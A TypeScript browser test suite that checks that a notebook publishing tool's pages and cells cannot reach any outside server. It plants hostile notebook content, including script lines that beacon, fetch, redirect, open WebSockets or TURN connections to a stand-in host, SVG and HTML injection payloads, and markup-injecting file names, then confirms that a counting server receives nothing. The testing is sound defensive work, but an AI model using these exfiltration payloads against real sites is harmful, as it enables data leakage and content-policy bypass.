import { afterAll, beforeAll, describe, expect, onTestFinished } from "vitest";
import type { Notebook } from "../../lib/notebook/nbformat.js";
import { chromium, itWith, program } from "../cli/available.js";
import { code, markdown, notebook } from "../cli/fixtures.js";
import { programPath } from "../cli/programPath.js";
import { bookOf } from "./builtBook.js";
import { type CountingServer, countingServer } from "./countingServer.js";
import { openFirefox } from "./firefox.js";
import { attacks, hostileExplorable, markdownAttacks, svgAttacks } from "./hostile.js";
import { hiddenImports, hostileCells, textTimers } from "./hostileCells.js";
import { openReader, serveFolder, type Visit } from "./reader.js";

// Whatever a notebook contains, its page and its cells reach no server but the one of the book. The notebooks here try it
// with cells, outputs, Markdown, attachments and file names, in browsers, and a server counts what arrives.

let elsewhere: CountingServer;
let folder: string;
beforeAll(async () => {
  elsewhere = await countingServer();
  const { address } = elsewhere;
  const ways = Object.values(hostileCells(address)).map(inHalfASecond);
  folder = await bookOf({
    [cells]: tries([...ways, ...hiddenImports(address)]),
    [timers]: tries(textTimers(address)),
    ...shown(elsewhere),
  });
}, 120_000);
afterAll(() => elsewhere?.close());

const cells = "01-cells";
const timers = "02-timers";
const outputs = "03-outputs";

const tries = (texts: readonly string[]): Notebook =>
  notebook(texts.map((text, i) => code(`tries-${i}`, text, ["raises-exception"])));

/** Some ways wait for an answer that never comes. */
const inHalfASecond = (text: string): string =>
  `await Promise.race([(async () => {\n${text}\n})(), new Promise((go) => setTimeout(go, 500))]);`;

/** A notebook of stored outputs and Markdown, and two whose names are hostile. */
function shown({ address }: CountingServer): Record<string, Notebook> {
  const here = (text: string) => text.replaceAll(/(?:https:)?\/\/elsewhere\.example\//g, address);
  const output = (type: string) => (text: string, i: number) =>
    code(
      `${type}-${i}`.replace(/\W/g, "-"),
      "1;",
      [],
      [{ output_type: "display_data", data: { [type]: here(text) }, metadata: {} }],
    );
  const names = [`04-"><img src="${address}">`, `05-<base href="${address}">`].map((name) =>
    name.replaceAll("/", "\u2215"),
  ); // a name has no slash; this sign looks like one
  return {
    [outputs]: notebook([
      ...markdownAttacks.map((text, i) => markdown(`text-${i}`, here(text))),
      ...hostileHtml.map(output("text/html")),
      ...svgAttacks.map(output("image/svg+xml")),
      ...attacks.map(output("text/markdown")),
    ]),
    ...Object.fromEntries(names.map((name) => [name, notebook([markdown("a", `# ${name}`)])])),
  };
}

/** What the script of an output may try. */
const scripts = [
  `fetch("https://elsewhere.example/a")`,
  `new Image().src = "https://elsewhere.example/a"`,
  `navigator.sendBeacon("https://elsewhere.example/a")`,
  `new WebSocket("https://elsewhere.example/a".replace("http", "ws"))`,
  `import("https://elsewhere.example/a")`,
  `location = "https://elsewhere.example/a"`,
  `parent.location = "https://elsewhere.example/a"`,
  `top.location = "https://elsewhere.example/a"`,
  `open("https://elsewhere.example/a")`,
  `document.body.innerHTML = '<iframe src="https://elsewhere.example/a"></iframe>'`,
  `document.body.innerHTML = '<form action="https://elsewhere.example/a"></form>'; document.forms[0].submit()`,
  `document.body.innerHTML = '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/a">'`,
  `document.body.innerHTML = '<a href="https://elsewhere.example/a">a</a>'; document.links[0].click()`,
  `document.body.innerHTML = '<link rel="preconnect" href="https://elsewhere.example/a">'`,
  `const c = new RTCPeerConnection({ iceServers: [{ urls: "turn:" + "https://elsewhere.example/".slice(7, -1) + "?transport=tcp", username: "a", credential: "b" }] }); c.createDataChannel("a"); c.setLocalDescription()`,
];

/** What the view of an explorable may return as its picture. */
const pictures = [
  ...svgAttacks,
  `<svg xmlns="http://www.w3.org/2000/svg"><link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="https://elsewhere.example/"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://elsewhere.example/"/></body></foreignObject></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://elsewhere.example/";</style></svg>`,
  `<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="https://elsewhere.example/"/></body></html>`,
];
const explorables = [
  ...attacks.map((text) =>
    hostileExplorable(text, `() => (${JSON.stringify({ svg: text, alt: text, text })})`),
  ),
  ...scripts.map((text) => hostileExplorable("a", `(() => { ${text} })`)),
  ...pictures.map((svg) =>
    hostileExplorable("a", `() => (${JSON.stringify({ svg, alt: "a", text: "a" })})`),
  ),
];
const hostileHtml = [
  ...attacks,
  ...scripts.map((text) => `<script>${text}</script>`),
  ...explorables,
];

const patience = { timeout: 150_000, interval: 500 };
/** The states of the cells that have not yet run to their end. */
const notEnded = `[...document.querySelectorAll("section[data-cell]")].map((one) => one.dataset.state).filter((state) => !/done|failed/.test(state))`;
const runAll = `document.querySelector('[data-live="run-all"]').click()`;
/** Scrolls through the page, because a browser loads some things only when they come into sight. */
const readAll = `(async () => {
  for (let y = 0; y < document.body.scrollHeight; y += innerHeight / 2) {
    scrollTo(0, y);
    await new Promise((go) => setTimeout(go, 30));
  }
  await new Promise((go) => setTimeout(go, 500));
})()`;

/** Opens a page, and returns what evaluates expressions in it. */
type Open = (file: string) => Promise<(expression: string) => Promise<unknown>>;

async function tryAll(run: readonly string[], open: Open): Promise<void> {
  for (const file of run) {
    const page = await open(`${file}.html`);
    await page(runAll);
    await expect.poll(() => page(notEnded), patience).toEqual([]);
    await page(readAll);
  }
  for (const file of Object.keys(shown(elsewhere))) await (await open(`${file}.html`))(readAll);
  expect(elsewhere.arrived).toEqual([]);
}

describe("no cell, output, text or file name of a notebook reaches a server", () => {
  itWith(
    [chromium],
    "in Chromium",
    async () => {
      const reader = await openReader(folder);
      onTestFinished(() => reader.close());
      const visits: Visit[] = [];
      await tryAll([cells, timers], async (file) => {
        const visit = await reader.visit(file);
        visits.push(visit);
        return (expression) => visit.page.evaluate(expression);
      });
      expect(visits.flatMap(({ dialogs }) => dialogs)).toEqual([]);
    },
    240_000,
  );

  itWith(
    [program("firefox-esr")],
    "in Firefox",
    async () => {
      const host = await serveFolder(folder);
      const page = await openFirefox(programPath("firefox-esr") ?? "");
      onTestFinished(async () => {
        await page.close();
        host.close();
      });
      await tryAll([cells], async (file) => {
        await page.open(host.address + encodeURIComponent(file));
        return (expression) => page.evaluate(expression);
      });
    },
    240_000,
  );

  itWith(
    [chromium],
    "though a page without its policy would, and the server would count it",
    async () => {
      const reader = await openReader(folder);
      const { page } = await reader.visit("index.html", { bypassCSP: true });
      await page.evaluate((address) => fetch(address), elsewhere.address);
      await reader.close();
      expect(elsewhere.arrived).toContain("GET /");
    },
  );
});
